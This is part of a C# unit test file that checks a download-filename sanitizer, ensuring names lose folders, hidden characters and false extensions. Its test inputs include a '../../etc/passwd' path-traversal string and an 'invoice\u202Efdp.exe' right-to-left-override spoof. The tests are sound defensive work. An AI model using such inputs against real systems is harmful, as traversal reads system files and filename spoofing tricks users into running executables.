            var detected = await FileContent.DetectAsync(stream, name, CancellationToken.None);
            (detected?.ContentType).ShouldBe(expected, name);
        }
    }

    [Fact]
    public void A_downloads_name_has_no_folders_or_hidden_characters_and_ends_in_its_real_type()
    {
        FileContent.SafeName("C:\\Users\\tia\\Desktop\\screen.png", FileContent.Png).ShouldBe("screen.png");
        FileContent.SafeName("../../etc/passwd", FileContent.Text).ShouldBe("passwd.txt");
        FileContent.SafeName("invoice\u202Efdp.exe", FileContent.Pdf).ShouldBe("invoice_fdp.exe.pdf");
        FileContent.SafeName("report\".pdf", FileContent.Pdf).ShouldBe("report_.pdf");
        FileContent.SafeName("photo.JPEG", FileContent.Jpeg).ShouldBe("photo.JPEG"[..^5] + ".jpeg");
        FileContent.SafeName("...", FileContent.Png).ShouldBe("file.png");
        FileContent.SafeName(new string('a', 300) + ".pdf", FileContent.Pdf).Length.ShouldBe(120);
    }
}
